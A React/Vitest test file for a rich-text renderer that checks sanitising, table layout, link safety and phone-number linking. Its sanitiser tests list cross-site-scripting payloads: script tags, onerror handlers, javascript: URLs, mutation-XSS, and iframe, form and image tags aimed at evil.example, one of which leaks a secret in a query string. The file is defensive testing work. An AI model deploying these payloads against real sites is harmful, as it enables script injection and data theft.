import { screen } from '@testing-library/react';
import { expect, test } from 'vitest';
import { draw } from '#testing/draw.tsx';
import { holdsHtml } from './parse-html.ts';
import { RichText } from './rich-text.tsx';
import { repairedAddress, safeAddress } from './safe-address.ts';

const html = (text: string) => draw(<RichText text={text} />).container.innerHTML;

test('a reply with HTML tags is shown as they say', () => {
  const drawn = html('<p>Ask <b>first</b>.</p><ul><li>one</li></ul>');
  expect(drawn).toMatch(/<strong[^>]*>first<\/strong>/);
  expect(drawn).toMatch(/<li>one<\/li>/);
});

test.for([
  '<script>alert(1)</script>hello',
  '<img src=x onerror=alert(1)>hello',
  '<p onclick="alert(1)" style="position:fixed">hello</p>',
  '<a href="javascript:alert(1)">hello</a>',
  '<a href=" java\nscript:alert(1)">hello</a>',
  '<svg><script>alert(1)</script></svg><p>hello</p>',
  '<iframe src="https://evil.example"></iframe><p>hello</p>',
  '<form action="https://evil.example"><input name=x><button>hello</button></form>',
  '<math><mtext><style><img src onerror=alert(1)></style></mtext></math><p>hello</p>',
  '<p>hello<img src="https://evil.example/?q=secret"></p>',
])('nothing of a reply runs, loads or hides: %s', (text) => {
  const drawn = html(text);
  expect(drawn).toContain('hello');
  expect(drawn).not.toMatch(
    /alert|evil|onerror|onclick|style=|javascript|<(img|svg|script|iframe|form|input|button|math)/i,
  );
});

test('a table is moved sideways by finger and key, and its values stay on one line', () => {
  const drawn = html('| | 3 |\n|---|---|\n| Pulse per minute | 41-50 |');
  expect(drawn).toMatch(/<div role="group" aria-label="Table" tabindex="0"[^>]*><table/);
  expect(drawn).toMatch(/<td class="[^"]*whitespace-nowrap">41-50<\/td>/);
  expect(drawn).not.toMatch(/whitespace-nowrap">Pulse/);
});

const SBAR =
  '| Letter | Say |  |\n|---|---|---|\n| Situation | Two sentences | 20-30 |\n| Background | | Reason for being here |';

test('three columns or more stand below each other where it is narrow, each row named by its first cell', () => {
  draw(<RichText text={SBAR} />);
  expect(screen.getAllByRole('columnheader').map(({ textContent }) => textContent)).toEqual(['Letter', 'Say', '']);
  expect(screen.getAllByRole('rowheader').map(({ textContent }) => textContent)).toEqual(['Situation', 'Background']);
  expect(screen.getByRole('cell', { name: 'Two sentences' }).dataset['label']).toBe('Say');
  expect(screen.getByRole('cell', { name: 'Reason for being here' }).dataset['label']).toBe('');
  expect(screen.getByRole('cell', { name: '20-30' }).className).toContain('whitespace-nowrap');
});

test('two columns stay side by side', () => {
  expect(html('| Organ | What you may see |\n|---|---|\n| Kidneys | Little or no urine |')).not.toContain('data-label');
});

test('angle brackets that are no tags stay what they are', () => {
  expect(holdsHtml('SpO2 < 92 % and > 88 %')).toBe(false);
  expect(html('SpO2 < 92 % and > 88 %')).toContain('SpO2 &lt; 92 % and &gt; 88 %');
});

test('links of a reply lead into the application or by https elsewhere', () => {
  expect(html('<a href="/o/riverside/home">home</a>')).toMatch(/<a [^>]*href="\/o\/riverside\/home"/);
  expect(html('<a href="https://example.org/x">out</a>')).toMatch(/rel="noreferrer noopener nofollow"/);
  expect(html('<a href="http://example.org/x">out</a>')).not.toContain('href');
});

test('the first ampersand of an address without a question mark becomes one', () => {
  expect(repairedAddress('/o/r/content/x&module_id=m&ch_id=c')).toBe('/o/r/content/x?module_id=m&ch_id=c');
  expect(repairedAddress('/o/r/content/x?module_id=m&ch_id=c')).toBe('/o/r/content/x?module_id=m&ch_id=c');
});

test.for<[string, unknown]>([
  ['/o/r/home#p3', { isOwn: true, to: '/o/r/home#p3' }],
  ['//evil.example/x', { isOwn: false, href: 'https://evil.example/x' }],
  ['https://user@evil.example', null],
  ['data:text/html,x', null],
  ['http://[', null],
])('an address is judged by where it leads: %s', ([address, verdict]) => {
  expect(safeAddress(address, 'https://learn.example')).toEqual(verdict);
});

test('what an administrator writes may hold links, which lead nowhere dangerous', () => {
  const announced = (text: string) => draw(<RichText text={text} hasLinks />).container.innerHTML;
  expect(announced('**See** [the rota](https://example.org/rota).')).toMatch(
    /<a [^>]*href="https:\/\/example.org\/rota"/,
  );
  expect(announced('[press](javascript:alert(1))')).not.toContain('href');
  expect(html('[the rota](https://example.org/rota)')).not.toContain('<a ');
});

const phones = (text: string) =>
  [...draw(<RichText text={text} hasPhones />).container.querySelectorAll('a')].map(
    (link) => `${link.textContent} ${link.getAttribute('href')}`,
  );

test('numbers that one is told to call are links', () => {
  expect(
    phones(
      'Please talk to somebody now: call the emergency number (112 or 911), or the crisis line 0800 111 0 111 (TelefonSeelsorge).',
    ),
  ).toEqual(['112 tel:112', '911 tel:911', '0800 111 0 111 tel:08001110111']);
  expect(phones('Im Haus: Wähle 2222. Sonst ruf die +49 30 123456 an.')).toEqual([
    '2222 tel:2222',
    '+49 30 123456 tel:+4930123456',
  ]);
});

test.each([
  'Call the doctor at a pressure of 90 and give 0.5 ml.',
  'Talk to peer support, extension 5500: the number is on the door.',
  'You have 4,759 snap points, and call nobody.',
  'The line begins at 12:30.',
  'You have 4759 points.',
])('no other number is: %s', (text) => expect(phones(text)).toEqual([]));
